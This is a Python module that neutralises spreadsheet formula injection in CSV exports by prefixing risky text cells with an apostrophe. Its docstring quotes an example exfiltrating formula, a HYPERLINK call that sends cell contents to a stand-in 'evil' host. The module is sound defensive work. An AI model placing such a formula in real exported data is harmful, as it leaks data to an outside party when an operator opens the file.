"""CSV cells a spreadsheet will not run: formula injection neutralised on export.

A user can write ``=HYPERLINK("http://evil/?"&A1,"click")`` or ``@SUM(...)`` to Buddy; written
raw into a CSV, Excel or LibreOffice runs it as a formula when an operator opens the export
(leaking other cells, or worse). OWASP's advice, followed here: a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which spreadsheets
show as text and never evaluate. Numbers and booleans are written as they are. JSONL exports
are data for programs, not spreadsheets, and stay exact.
"""

from __future__ import annotations

from collections.abc import Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` safe for a spreadsheet: a risky text cell prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, object]) -> dict[str, object]:
    return {key: neutralise(value) for key, value in row.items()}
